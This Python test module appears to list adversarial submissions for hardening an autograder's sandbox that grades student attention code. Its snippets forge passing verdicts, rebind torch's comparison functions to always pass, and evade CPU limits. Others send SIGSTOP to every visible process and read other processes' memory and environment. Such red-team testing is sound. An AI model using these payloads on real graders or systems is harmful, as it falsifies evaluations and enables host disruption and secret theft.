"""The attacks of round 47 of hostile submissions (kept apart from the tests so a script can grade them one by one).

Angles the earlier rounds (33-46) left open: finalizers and gc hooks that run inside the jail's own calls, the caller
frames' globals rewritten from forward, import hooks that fail the jail's own later imports, signals that catch the
CPU limit's warning, resource limits cut under what the wire needs, torch's global switches (RNG seeding, matmul
precision, the base class's ``__torch_function__``, the comparison functions), returned shapes and volumes that cost
the trusted side, reads of every other process the jail can see, writes to every shared mapping it inherited, and
priority or stop signals sent to every process it can see.
"""

from __future__ import annotations

from tests.grading.test_hostile_round31 import CORRECT, inside


def _after(code: str) -> str:
    """``CORRECT`` followed by ``code`` at the top level."""
    return CORRECT + "\n" + code.strip("\n") + "\n"


# The forward of the single-head class returns ``expr`` (q, k, v, additive_mask, return_weights in scope) in place of
# its honest answer when ``return_weights`` is true (MultiHeadAttention's call then gets it, and unpacks two values).
def _returning(expr: str, head: str = "") -> str:
    return inside(f"if return_weights:\n    return {expr}", head=head)


ATTACKS: dict[str, str | bytes] = {
    # ---------------------------------------------------------------- finalizers and the collector inside the jail's calls
    "a_weakref_finalize_at_exit_writing_a_forged_verdict_and_exiting_zero": _after("""
import os as _o, weakref as _wr
def _forge():
    _o.write(1, b'{"seq": 1, "ok": true, "value": "passed 85 of 85"}\\n')
    _o.write(2, b"passed: 85 of 85\\n")
    _o._exit(0)
_fin = _wr.finalize(ScaledDotProductAttention, _forge)
_fin.atexit = True
"""),
    "a_gc_callback_zeroing_every_float_tensor_it_finds_every_fiftieth_collection": _after("""
import gc as _gc, torch as _t
_n = [0]
def _cb(phase, info):
    if phase != "stop":
        return
    _n[0] += 1
    if _n[0] % 50:
        return
    for _o in _gc.get_objects():
        if type(_o) is _t.Tensor and _o.is_floating_point() and not _o.requires_grad:
            try:
                _o.zero_()
            except Exception:
                pass
_gc.callbacks.append(_cb)
_gc.set_threshold(5)
"""),
    "a_cycle_whose_del_resurrects_itself_and_spins_at_every_collection": _after("""
import gc as _gc, time as _tm
class _Zombie:
    keep = []
    def __init__(self):
        self.me = self
    def __del__(self):
        _end = _tm.process_time() + 0.005
        while _tm.process_time() < _end:
            pass
        _Zombie.keep.append(self)
        _Zombie.keep.clear()
        _Zombie()
_Zombie()
_gc.set_threshold(1)
"""),
    # ---------------------------------------------------------------- hooks that watch or rewrite the jail's own code
    "an_audit_hook_recording_every_event_raised_as_the_message": inside("""
import sys as _s
raise RuntimeError(repr(_EVENTS[-400:])[:100000])""", head="""
import sys as _s
_EVENTS = []
_s.addaudithook(lambda ev, args: _EVENTS.append((ev, repr(args)[:200])))
"""),
    "the_caller_frames_globals_rewritten_from_forward_to_forge_replies": inside("""
import sys as _s
_f = _s._getframe(1)
while _f is not None:
    _g = _f.f_globals
    if _g is not globals():
        for _name, _val in list(_g.items()):
            if callable(_val) and any(w in _name.lower() for w in ("encode", "send", "reply", "dump", "fail", "error")):
                try:
                    _g[_name] = lambda *a, **k: b'{"ok": true, "value": 85}'
                except Exception:
                    pass
    _f = _f.f_back"""),
    "a_meta_path_finder_raising_system_exit_for_every_import_after_the_top_level": _after("""
import sys as _s
class _Deny:
    @staticmethod
    def find_spec(name, path=None, target=None):
        raise SystemExit(f"no import of {name}")
    @staticmethod
    def find_module(name, path=None):
        raise SystemExit(f"no import of {name}")
_s.meta_path.insert(0, _Deny)
_s.path_hooks.insert(0, _Deny.find_module)
_s.path_importer_cache.clear()
"""),
    "sys_path_and_torchs_package_paths_pointed_at_an_empty_folder_at_import": _after("""
import sys as _s, torch as _t
_s.path[:] = ["/nonexistent"]
for _pkg in (_t, _t.nn, _t.nn.utils, _t.utils, _t.jit):
    _pkg.__path__[:] = ["/nonexistent"]
_s.path_importer_cache.clear()
"""),
    "importlib_import_module_and_the_bootstraps_find_and_load_rebound_to_fakes": _after("""
import importlib as _il, importlib._bootstrap as _bs, types as _ty
def _fake(name, *a, **k):
    m = _ty.ModuleType(name)
    m.__getattr__ = lambda attr: (lambda *a, **k: None)
    return m
_il.import_module = _fake
_bs._find_and_load = lambda name, imp: _fake(name)
_bs._gcd_import = lambda name, package=None, level=0: _fake(name)
"""),
    # ---------------------------------------------------------------- signals and limits the jail relies on
    "sigxcpu_and_sigvtalrm_ignored_then_a_call_spinning_forever": inside("""
while True:
    pass""", head="""
import signal as _sg
for _n in (_sg.SIGXCPU, _sg.SIGVTALRM, _sg.SIGPROF, _sg.SIGALRM):
    _sg.signal(_n, _sg.SIG_IGN)
"""),
    "a_sigxcpu_handler_that_raises_the_cpu_soft_limit_and_keeps_spinning": inside("""
while True:
    pass""", head="""
import signal as _sg, resource as _r
def _more(*a):
    soft, hard = _r.getrlimit(_r.RLIMIT_CPU)
    try:
        _r.setrlimit(_r.RLIMIT_CPU, (hard, hard))
    except Exception:
        pass
_sg.signal(_sg.SIGXCPU, _more)
"""),
    "the_descriptor_rlimit_cut_to_the_descriptors_open_at_import": _after("""
import os as _o, resource as _r
_open = len(_o.listdir("/proc/self/fd"))
_r.setrlimit(_r.RLIMIT_NOFILE, (_open, _open))
"""),
    "the_cpu_soft_rlimit_cut_to_one_second_at_import": _after("""
import resource as _r
_r.setrlimit(_r.RLIMIT_CPU, (1, _r.getrlimit(_r.RLIMIT_CPU)[1]))
"""),
    "the_file_size_rlimit_cut_to_zero_at_import": _after("""
import resource as _r
_r.setrlimit(_r.RLIMIT_FSIZE, (0, 0))
"""),
    "the_data_and_stack_rlimits_cut_to_what_is_used_at_import": _after("""
import resource as _r
_used = _r.getrusage(_r.RUSAGE_SELF).ru_maxrss * 1024
_r.setrlimit(_r.RLIMIT_DATA, (_used, _used))
_r.setrlimit(_r.RLIMIT_STACK, (1 << 16, 1 << 16))
"""),
    # ---------------------------------------------------------------- processes the file starts or reaches
    "setsid_and_a_double_forked_grandchild_spinning_at_import": _after("""
import os as _o
try:
    if _o.fork() == 0:
        _o.setsid()
        if _o.fork() == 0:
            while True:
                pass
        _o._exit(0)
except OSError:
    pass
"""),
    "fork_hooks_that_exit_and_a_thread_renaming_itself_like_a_proc_stat_line": _after("""
import os as _o, threading as _th, ctypes as _c, time as _tm
_o.register_at_fork(before=lambda: _o._exit(3), after_in_parent=lambda: _o._exit(4), after_in_child=lambda: _o._exit(5))
_libc = _c.CDLL(None)
_libc.prctl(15, b") R 1 1 1 0 -1 99999 ", 0, 0, 0)
def _named():
    _libc.prctl(15, b") Z 0 0 0 0 0 0 0", 0, 0, 0)
    _tm.sleep(3600)
_th.Thread(target=_named, daemon=True).start()
"""),
    "sigstop_and_the_lowest_priority_sent_to_every_visible_process_and_its_user": _after("""
import os as _o, signal as _sg
for _p in _o.listdir("/proc"):
    if _p.isdigit() and int(_p) != _o.getpid():
        for _how in (lambda p: _o.kill(p, _sg.SIGSTOP), lambda p: _o.setpriority(_o.PRIO_PROCESS, p, 19)):
            try:
                _how(int(_p))
            except OSError:
                pass
for _which in (_o.PRIO_PGRP, _o.PRIO_USER):
    try:
        _o.setpriority(_which, 0, 19)
    except OSError:
        pass
"""),
    "process_vm_readv_and_proc_mem_of_every_visible_process_raised_as_the_message": inside("""
import os as _o, ctypes as _c
_libc = _c.CDLL(None, use_errno=True)
_seen = []
for _p in _o.listdir("/proc"):
    if not _p.isdigit() or int(_p) == _o.getpid():
        continue
    try:
        _maps = open(f"/proc/{_p}/maps").read().splitlines()
    except OSError as _e:
        _seen.append(f"{_p}: {_e}")
        continue
    for _line in _maps[:200]:
        _lo, _hi = (int(x, 16) for x in _line.split()[0].split("-"))
        _buf = _c.create_string_buffer(4096)
        _loc = (_c.c_void_p * 2)(_c.addressof(_buf), 4096)
        _rem = (_c.c_void_p * 2)(_lo, 4096)
        if _libc.process_vm_readv(int(_p), _loc, 1, _rem, 1, 0) > 0:
            _seen.append(_buf.raw)
        try:
            with open(f"/proc/{_p}/mem", "rb") as _m:
                _m.seek(_lo)
                _seen.append(_m.read(4096))
        except OSError:
            pass
raise RuntimeError(repr(_seen)[:200000])"""),
    "cmdline_environ_cwd_and_open_files_of_every_visible_process_raised_as_the_message": inside("""
import os as _o
_seen = {}
for _p in _o.listdir("/proc"):
    if not _p.isdigit():
        continue
    for _what in ("cmdline", "environ", "cwd", "root", "exe", "fd", "task", "status", "mountinfo"):
        _path = f"/proc/{_p}/{_what}"
        try:
            if _what in ("cwd", "root", "exe"):
                _seen[_path] = _o.readlink(_path)
            elif _what in ("fd", "task"):
                _seen[_path] = [(_f, _o.readlink(f"{_path}/{_f}") if _what == "fd" else "") for _f in _o.listdir(_path)]
            else:
                _seen[_path] = open(_path, "rb").read()[:4000]
        except OSError as _e:
            _seen[_path] = str(_e)
raise RuntimeError(repr(_seen)[:200000])"""),
    "every_writable_shared_mapping_it_inherited_overwritten_at_import": _after("""
import ctypes as _c
for _line in open("/proc/self/maps").read().splitlines():
    _parts = _line.split()
    _lo, _hi = (int(x, 16) for x in _parts[0].split("-"))
    if _parts[1][1] == "w" and _parts[1][3] == "s":
        try:
            _c.memset(_lo, 0x41, _hi - _lo)
        except Exception:
            pass
"""),
    # ---------------------------------------------------------------- torch's and the interpreter's global switches
    "torch_seeding_rebound_to_no_ops_and_the_global_rng_state_scrambled_at_import": _after("""
import torch as _t, random as _rd, numpy as _np
_t.manual_seed(987654321)
_t.manual_seed = lambda s: _t.default_generator
_t.random.manual_seed = _t.manual_seed
_t.default_generator.set_state(_t.Generator().manual_seed(1).get_state())
_t.seed = lambda: 0
_rd.seed = lambda *a, **k: None
_np.random.seed = lambda *a, **k: None
"""),
    "float32_matmul_precision_medium_and_mkldnn_turned_off_at_import": _after("""
import torch as _t
_t.set_float32_matmul_precision("medium")
_t.backends.mkldnn.enabled = False
_t._C._set_mkldnn_enabled(False)
"""),
    "the_base_tensor_classes_torch_function_zeroing_copies_outside_forward": _after("""
import torch as _t
_orig = _t.Tensor.__torch_function__
_inside = [False]
@classmethod
def _tf(cls, func, types, args=(), kwargs=None):
    r = _orig.__func__(cls, func, types, args, kwargs or {})
    if not _inside[0] and getattr(func, "__name__", "") in ("clone", "contiguous", "detach", "to", "cpu", "numpy",
                                                            "tolist", "__getitem__", "reshape", "view", "copy_"):
        if isinstance(r, _t.Tensor) and r.is_floating_point():
            with _t._C.DisableTorchFunction():
                return _t.zeros_like(r)
    return r
_t.Tensor.__torch_function__ = _tf
_real = ScaledDotProductAttention.forward
def _forward(self, *a, **k):
    _inside[0] = True
    try:
        return _real(self, *a, **k)
    finally:
        _inside[0] = False
ScaledDotProductAttention.forward = _forward
"""),
    "torch_allclose_isclose_equal_and_assert_close_rebound_to_always_pass": _after("""
import torch as _t, numpy as _np, math as _m
_t.allclose = lambda *a, **k: True
_t.equal = lambda *a, **k: True
_t.isclose = lambda a, b, *x, **k: _t.ones_like(_t.as_tensor(a), dtype=_t.bool)
_t.testing.assert_close = lambda *a, **k: None
_t.Tensor.allclose = lambda *a, **k: True
_t.Tensor.equal = lambda *a, **k: True
_np.allclose = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_m.isclose = lambda *a, **k: True
"""),
    "module_loading_and_copying_rebound_to_keep_the_files_own_weights": _after("""
import torch as _t, copy as _cp
_t.nn.Module.load_state_dict = lambda self, *a, **k: None
_t.nn.Module.__deepcopy__ = lambda self, memo: self
_cp.deepcopy = lambda x, memo=None: x
_t.nn.init.normal_ = lambda t, *a, **k: t.data.fill_(0.5)
_t.nn.init.uniform_ = lambda t, *a, **k: t.data.fill_(0.5)
_t.nn.init.kaiming_uniform_ = lambda t, *a, **k: t.data.fill_(0.5)
"""),
    "time_functions_rebound_to_run_backwards_and_jump_a_day": _after("""
import time as _tm
_real = _tm.monotonic
_tm.monotonic = lambda: -_real()
_tm.perf_counter = lambda: 86400.0 - _real()
_tm.time = lambda: 0.0
_tm.process_time = lambda: 1e12
_tm.sleep = lambda s: None
"""),
    "os_read_write_and_select_rebound_to_lose_bytes_after_the_import": _after("""
import os as _o, select as _se, selectors as _sl
_rd, _wr = _o.read, _o.write
_o.read = lambda fd, n: _rd(fd, n)[:-1] or b""
_o.write = lambda fd, b: _wr(fd, bytes(b)[: max(1, len(b) // 2)])
_se.select = lambda *a, **k: ([], [], [])
_se.poll = lambda: type("P", (), {"register": lambda *a: None, "poll": lambda *a: []})()
_sl.DefaultSelector = _sl.SelectSelector
"""),
    "the_recursion_limit_raised_to_a_million_and_recursion_without_end_in_forward": inside("""
import sys as _s
_s.setrecursionlimit(1_000_000)
def _down(n):
    return _down(n + 1) + 1
_down(0)"""),
    "stdout_and_stderr_set_non_blocking_and_flooded_at_import": _after("""
import os as _o, fcntl as _f
for _fd in (1, 2):
    _f.fcntl(_fd, _f.F_SETFL, _f.fcntl(_fd, _f.F_GETFL) | _o.O_NONBLOCK)
    _chunk = b"passed 85 of 85\\n" * 65536
    for _ in range(64):
        try:
            _o.write(_fd, _chunk)
        except OSError:
            pass
"""),
    # ---------------------------------------------------------------- what the trusted side must decode and compare
    "a_tuple_of_a_hundred_thousand_zero_dimensional_tensors_returned_as_the_weights": _returning(
        "(torch.matmul(torch.softmax(torch.matmul(q, k.transpose(-2, -1)) / q.shape[-1] ** 0.5 + "
        "(0 if additive_mask is None else additive_mask), -1), v), tuple(torch.tensor(0.5) for _ in range(100_000)))"),
    "results_of_zero_elements_with_dimensions_of_two_to_the_sixty_two": _returning(
        "(torch.empty(0, 2 ** 62), torch.empty(2 ** 40, 0, 2 ** 20))"),
    "every_output_a_nan_with_payload_bits_and_weights_of_infinities": _returning(
        "(torch.full(q.shape[:-1] + v.shape[-1:], 0.0).view(torch.int32).fill_(0x7FC0BEEF).view(torch.float32), "
        "torch.full(q.shape[:-1] + k.shape[-2:-1], float('inf')))"),
    "an_output_strided_over_a_storage_of_sixty_four_megabytes": _returning(
        "(torch.empty(0).new_empty(1 << 24).zero_().as_strided(q.shape[:-1] + v.shape[-1:], (1 << 18, 1 << 16, 1 << 8, 1)), "
        "torch.zeros(q.shape[:-1] + k.shape[-2:-1]))"),
}

# The attacks whose import fails as ``python attention.py`` would fail at home, and what the student is told of it
# (filled from the measured run: the others load, and their feedback never says the file did not load).
NOT_LOADING: dict[str, str] = {}
